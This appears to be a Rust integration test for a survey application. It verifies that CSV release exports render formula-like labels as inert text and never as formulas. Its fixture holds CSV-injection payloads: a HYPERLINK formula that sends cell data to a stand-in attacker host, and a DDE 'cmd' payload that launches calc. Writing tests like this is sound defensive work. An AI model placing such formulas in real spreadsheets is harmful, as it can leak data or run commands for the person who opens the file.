@@ -1,0 +1,110 @@
+//! Release downloads opened in a spreadsheet: titles and labels come from survey definitions
+//! (often written by someone else) and translators' sheets, so a text starting with `=`, `+`,
+//! `-`, `@`, a tab or a carriage return must reach every CSV as text, never as a formula.
+
+use crate::helpers::TestApp;
+use crate::org_client::OrgClient;
+use serde_json::json;
+
+/// Every text a release's tables show starts with a character a spreadsheet would run.
+const RISKY: &str = r#"
+id = "risky"
+title = { en = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Survey\")" }
+languages = ["en"]
+mode = "invite"
+threshold = 5
+min_responses = 10
+
+[[pages]]
+title = { en = "-2+3+cmd|' /C calc'!A0" }
+  [[pages.questions]]
+  id = "q1"
+  type = "single"
+  role = "plain"
+  required = true
+  text = { en = "=1+2" }
+  options = [
+    { id = "a", text = { en = "=HYPERLINK(\"http://attacker.example\",\"click\")" } },
+    { id = "b", text = { en = "+SUM(1,2)" } },
+    { id = "c", text = { en = "@SUM(3,4)" } },
+  ]
+
+  [[pages.questions]]
+  id = "q2"
+  type = "single"
+  role = "plain"
+  required = true
+  text = { en = "-1+cmd" }
+  options = [
+    { id = "x", text = { en = "\tTAB=1+1" } },
+    { id = "y", text = { en = "\rCR=1+1" } },
+  ]
+"#;
+
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+fn release_zip(app: &TestApp) -> Vec<u8> {
+    let org = OrgClient::log_in(app, "maria", "organiser");
+    let zip = ureq::get(&app.url("/org/s/risky/releases/1/csv"))
+        .set("Cookie", org.cookie.as_deref().expect("cookie"))
+        .call()
+        .expect("zip");
+    assert_eq!(zip.content_type(), "application/zip");
+    let mut bytes = Vec::new();
+    std::io::Read::read_to_end(&mut zip.into_reader(), &mut bytes).expect("bytes");
+    bytes
+}
+
+#[test]
+fn every_cell_of_every_release_csv_is_text_a_spreadsheet_will_not_run() {
+    let app = TestApp::spawn();
+    app.import(RISKY);
+    app.open_survey("risky");
+    for (i, code) in app.issue_codes("risky", 36).iter().enumerate() {
+        let (q1, q2) = (["a", "b", "c"][i % 3], ["x", "y"][i % 2]);
+        let answers = json!({"q1": q1, "q2": q2});
+        let (status, body) = app.submit("risky", code, &answers);
+        assert_eq!(status, 201, "{body}");
+    }
+    let (ok, _, stderr) = app.cli(&["release", "publish", "risky"]);
+    assert!(ok, "{stderr}");
+
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(release_zip(&app))).expect("a zip");
+    let mut cells = Vec::new();
+    for i in 0..archive.len() {
+        let file = archive.by_index(i).expect("file");
+        let name = file.name().expect("name").into_owned();
+        if !name.ends_with(".csv") {
+            continue;
+        }
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(file);
+        for record in reader.records() {
+            let record = record.unwrap_or_else(|e| panic!("{name}: {e}"));
+            cells.extend(record.iter().map(|c| (name.clone(), c.to_owned())));
+        }
+    }
+    assert!(!cells.is_empty(), "the release has tables");
+    for (name, cell) in &cells {
+        let runs = cell.starts_with(FORMULA_STARTS) && cell.parse::<f64>().is_err();
+        assert!(!runs, "{name}: {cell:?} would run as a formula");
+    }
+    // The texts are all there, as text: the table's title, every label of both questions.
+    for text in [
+        "=1+2",
+        "-1+cmd",
+        "=HYPERLINK(\"http://attacker.example\",\"click\")",
+        "+SUM(1,2)",
+        "@SUM(3,4)",
+        "\tTAB=1+1",
+        "\rCR=1+1",
+    ] {
+        let shown = format!("'{text}");
+        assert!(
+            cells.iter().any(|(_, c)| *c == shown),
+            "{shown:?} missing from {cells:#?}"
+        );
+    }
+}
